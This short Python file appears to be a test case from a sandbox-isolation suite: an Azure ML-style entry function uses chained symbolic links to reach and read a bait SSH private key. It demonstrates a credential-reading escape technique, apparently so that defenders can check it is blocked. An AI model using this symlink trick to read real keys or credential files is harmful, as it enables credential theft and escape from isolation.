"""Reads the ssh key through a link of its own, also one that leads through another link."""

import os

from attack import BAIT, attack, read


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    os.symlink(os.path.dirname(BAIT["ssh_key"]), "keys")
    os.symlink(os.path.join("keys", os.path.basename(BAIT["ssh_key"])), "key")
    return read("key")
